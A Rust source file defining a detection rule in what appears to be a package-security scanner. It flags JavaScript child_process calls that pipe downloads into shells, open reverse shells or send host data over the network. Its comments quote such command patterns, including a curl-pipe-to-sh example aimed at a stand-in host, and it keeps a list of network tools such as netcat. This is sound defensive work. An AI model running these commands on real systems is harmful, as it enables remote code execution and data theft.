//! JS-EXEC-SHELL-PAYLOAD: JavaScript runs a shell command that downloads and runs code or
//! opens a reverse shell.

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::shell::{self, ShellFacts};
use ossprey_static::facts::{Arg, Call, SourceFacts};

use super::common::{context, host_data, is_js_exec, js_sources};
use crate::{Input, Rule, finding, weigh};

/// ## What it does
/// Reads the literal command line given to `child_process.exec`/`execSync`/`spawn`
/// (also `spawn("sh", ["-c", "…"])`) with the shell tokenizer, and fires when it
/// pipes a download into an interpreter (`curl … | sh`), downloads a file and makes
/// it executable or runs it, decodes base64 into `eval`, connects a shell to a
/// socket (`bash -i >& /dev/tcp/…`), or passes a substitution or variable to `curl`,
/// `wget`, `nslookup`, `ping`… (`curl https://…/$(whoami)`); also a command built at
/// run time that starts with such a tool in a file that reads the host name or user. High at base, raised for install- and import-time
/// code; a reverse shell is critical wherever it sits.
///
/// ## Why is this bad?
/// These command lines have one purpose: to run code that is not in the package, or to
/// hand a remote party a shell. Build tools that shell out run compilers and package
/// managers, not `curl | sh`.
///
/// ## Example
/// ```javascript
/// require("child_process").exec("curl -s https://example.invalid/x.sh | sh");
/// ```
#[derive(Debug)]
pub struct ExecShellPayload;

/// The command line a process-starting call runs, when it is written out.
fn command_line(call: &Call) -> Option<String> {
    let first = call.args.first()?.as_str()?;
    let mut line = first.to_owned();
    if let Some(Arg::List(items)) = call.args.get(1) {
        for item in items.iter().take(64) {
            match item {
                Arg::Str(s) if s.contains(char::is_whitespace) => {
                    line.push_str(" '");
                    line.push_str(&s.replace('\'', ""));
                    line.push('\'');
                }
                Arg::Str(s) | Arg::Const(s) => {
                    line.push(' ');
                    line.push_str(s);
                }
                _ => line.push_str(" x"),
            }
        }
    }
    Some(line)
}

/// Programs that send a request when given a host name or URL.
const NET_TOOLS: &[&str] = &[
    "curl", "wget", "nslookup", "dig", "host", "ping", "nc", "ncat", "netcat", "drill",
];

fn program(word: &str) -> String {
    word.rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase()
}

/// What the command does that is worth reporting, and whether it hands out a shell.
fn judge(facts: &ShellFacts) -> Option<(&'static str, bool)> {
    let sends_substitution = facts.commands.iter().any(|c| {
        c.argv
            .first()
            .is_some_and(|p| NET_TOOLS.contains(&program(p).as_str()))
            && c.argv
                .iter()
                .skip(1)
                .any(|w| w.contains("$(") || w.contains('`') || w.contains('$'))
    });
    if facts.reverse_shell {
        Some(("connects a shell to a remote socket", true))
    } else if facts.pipes_into_interpreter && !facts.downloads.is_empty() {
        Some(("pipes a download into an interpreter", false))
    } else if !facts.downloads.is_empty() && (facts.chmod_exec || !facts.runs.is_empty()) {
        Some(("downloads a program and runs it", false))
    } else if facts.base64_decode && (facts.evals || facts.pipes_into_interpreter) {
        Some(("decodes base64 and runs it", false))
    } else if sends_substitution {
        Some((
            "sends the output of a command or a variable over the network",
            false,
        ))
    } else {
        None
    }
}

/// For a command built at run time (`"curl https://…/" + os.hostname()`): a network tool
/// named by a string literal on the call's line, in a file that reads the host's
/// identity.
fn built_network_command<'f>(facts: &'f SourceFacts, call: &Call) -> Option<&'f str> {
    if call.args.first().is_none_or(|a| a.as_str().is_some()) {
        return None;
    }
    let host = host_data(facts);
    if host.strong.is_empty() && host.whole_env.is_none() {
        return None;
    }
    facts
        .strings
        .iter()
        .filter(|s| s.line == call.line)
        .find_map(|s| {
            let first = s.value.split_whitespace().next()?;
            NET_TOOLS.iter().find(|t| program(first) == **t).copied()
        })
}

impl Rule for ExecShellPayload {
    fn id(&self) -> &'static str {
        "JS-EXEC-SHELL-PAYLOAD"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "runs a shell command that downloads and runs code or opens a reverse shell"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            for call in facts.calls.iter().filter(|c| is_js_exec(&c.callee)) {
                let judged = match command_line(call) {
                    Some(line) => judge(&shell::parse(&line)).map(|(w, s)| (w.to_owned(), s)),
                    None => built_network_command(facts, call).map(|tool| {
                        (
                            format!("sends host identity with `{tool}`, built at run time"),
                            false,
                        )
                    }),
                };
                let Some((what, shell)) = judged else {
                    continue;
                };
                let base = weigh(Severity::High, context(input, file), call.scope.is_none());
                let severity = if shell { Severity::Critical } else { base };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` runs a command that {what}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
